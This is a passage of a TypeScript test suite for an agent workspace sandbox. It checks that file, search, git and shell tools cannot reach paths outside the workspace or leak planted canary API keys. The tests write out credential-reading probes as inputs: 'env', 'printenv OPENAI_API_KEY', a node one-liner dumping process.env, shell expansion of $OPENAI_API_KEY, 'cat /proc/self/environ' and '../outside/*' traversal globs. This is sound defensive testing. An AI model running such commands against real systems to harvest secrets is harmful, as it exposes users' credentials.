    if (c.rule !== undefined) expect(e.details?.['rule'], e.message).toBe(c.rule);
    if (c.message !== undefined) expect(e.message).toMatch(c.message);
    expect(e.message.length).toBeGreaterThan(10);
    expect(JSON.stringify(e.toPayload())).not.toContain(fx.secret);
    expect(snapshot(fx.outside)).toBe(outsideBefore);
  });
});

describe('what the boundary lets through never shows what is outside', () => {
  it('lists the workspace without following links or showing protected and sensitive entries', async () => {
    const out = (await call('fs.list_files', { recursive: true, max_entries: 5000 })) as {
      entries: { path: string; type: string }[];
      hidden: number;
    };
    const paths = out.entries.map((e) => e.path);
    expect(paths).toContain('a.txt');
    expect(paths).not.toContain('.env');
    expect(paths.some((p) => p.startsWith('.agentmesh'))).toBe(false);
    expect(paths.some((p) => p.startsWith('link-dir/'))).toBe(false);
    expect(out.entries.find((e) => e.path === 'link-dir')?.type).toBe('symlink');
    expect(out.hidden).toBeGreaterThan(0);
    expect(JSON.stringify(out)).not.toContain(fx.secret);
    expect(snapshot(fx.outside)).toBe(outsideBefore);
  });

  it('search finds nothing behind links, hard links, protected folders or sensitive files', async () => {
    for (const query of [fx.secret, fx.envSecret]) {
      const out = (await call('fs.search_files', { query, max_matches: 10 })) as { matches: unknown[] };
      expect(out.matches).toEqual([]);
    }
    const globbed = (await call('fs.search_files', {
      query: 'CANARY',
      include: ['../outside/*', '**/*'],
    })) as { matches: unknown[] };
    expect(globbed.matches).toEqual([]);
    expect(snapshot(fx.outside)).toBe(outsideBefore);
  });

  it('reads a symlink that stays inside the workspace', async () => {
    const out = (await call('fs.read_file', { path: 'inside-link' })) as { content: string; path: string };
    expect(out).toMatchObject({ content: 'hello\n', path: 'a.txt' });
  });

  it('git history and diffs never show sensitive files', async () => {
    const log = (await call('git.inspect', { subcommand: 'log', args: ['-p'] })) as {
      stdout: string;
      exit_code: number;
    };
    expect(log.exit_code).toBe(0);
    expect(log.stdout).toContain('export const x');
    expect(log.stdout).not.toContain(fx.envSecret);
    const show = (await call('git.inspect', { subcommand: 'show', args: ['HEAD'] })) as { stdout: string };
    expect(show.stdout).not.toContain(fx.envSecret);
  });

  it('git status through shell.run_command never reads a repository above the workspace either', async () => {
    const nested = join(fx.ws, 'plain-sh');
    mkdirSync(nested);
    const inner = createWorkspacePack({ root: nested, allow_argv_prefixes: [['git', 'status']] });
    extraPacks.push(inner);
    const out = (await tool(inner, 'shell.run_command').invoke({ argv: ['git', 'status'] })) as {
      stderr: string;
      exit_code: number;
    };
    expect(out.exit_code).not.toBe(0);
    expect(out.stderr).toMatch(/not a git repository/);
  });

  it('git never reads a repository above the workspace', async () => {
    const nested = join(fx.ws, 'plain');
    mkdirSync(nested);
    const inner = createWorkspacePack({ root: nested });
    extraPacks.push(inner);
    await expect(tool(inner, 'git.inspect').invoke({ subcommand: 'log' })).rejects.toMatchObject({
      code: 'not_found',
      message: expect.stringMatching(/not a git repository/),
    });
  });
});

describe('a child process trying to read secrets from its environment', () => {
  const planted: Record<string, string> = {
    OPENAI_API_KEY: `sk-canary-${randomUUID()}`,
    ANTHROPIC_API_KEY: `sk-ant-canary-${randomUUID()}`,
    GITHUB_TOKEN: `ghp-canary-${randomUUID()}`,
    AWS_SECRET_ACCESS_KEY: `aws-canary-${randomUUID()}`,
    MY_SERVICE_PASSWORD: `pw-canary-${randomUUID()}`,
    NATS_URL: `nats://canary-${randomUUID()}:4222`,
  };
  const saved: Record<string, string | undefined> = {};
  let envPack: WorkspacePack;

  beforeAll(() => {
    for (const [k, v] of Object.entries(planted)) {
      saved[k] = process.env[k];
      process.env[k] = v;
    }
    envPack = packWith({
      allow_shell: true,
      allow_argv_prefixes: [['env'], ['node', '-e'], ['printenv']],
      env_allow: ['OPENAI_API_KEY', 'GITHUB_TOKEN', 'LANG'],
    });
  });
  afterAll(() => {
    for (const [k, v] of Object.entries(saved)) {
      if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  });

  const leaks = (out: unknown): string[] =>
    Object.values(planted).filter((v) => JSON.stringify(out).includes(v));

  it('env prints no key, token or password, even ones named in env_allow', async () => {
    const out = (await call('shell.run_command', { argv: ['env'] }, envPack)) as {
      stdout: string;
      exit_code: number;
    };
    expect(out.exit_code).toBe(0);
    expect(out.stdout).toMatch(/PATH=/);
    expect(out.stdout).not.toMatch(/OPENAI_API_KEY|GITHUB_TOKEN|NATS_URL/);
    expect(leaks(out)).toEqual([]);
  });

  it('node reading process.env.OPENAI_API_KEY finds nothing', async () => {
    const out = (await call(
      'shell.run_command',
      {
        argv: [
          'node',
          '-e',
          'process.stdout.write(String(process.env.OPENAI_API_KEY) + JSON.stringify(Object.keys(process.env)))',
        ],
      },
      envPack,
    )) as { stdout: string };
    expect(out.stdout.startsWith('undefined')).toBe(true);
    expect(leaks(out)).toEqual([]);
  });

  it('a shell expanding $OPENAI_API_KEY gets an empty value', async () => {
    const out = (await call(
      'shell.run_command',
      { command: 'echo "key=[$OPENAI_API_KEY][$ANTHROPIC_API_KEY]"' },
      envPack,
    )) as { stdout: string };
    expect(out.stdout.trim()).toBe('key=[][]');
    expect(leaks(out)).toEqual([]);
  });

  it('printenv OPENAI_API_KEY exits 1 with no output', async () => {
    const out = (await call('shell.run_command', { argv: ['printenv', 'OPENAI_API_KEY'] }, envPack)) as {
      stdout: string;
      exit_code: number;
    };
    expect(out).toMatchObject({ stdout: '', exit_code: 1 });
  });

  it('reading /proc/self/environ by path is refused as a path outside the workspace', async () => {
    await expect(call('shell.run_command', { argv: ['cat', '/proc/self/environ'] })).rejects.toMatchObject({
      code: 'permission_denied',
      details: { rule: 'argument_path' },
    });
    expect(snapshot(fx.outside)).toBe(outsideBefore);
  });
});
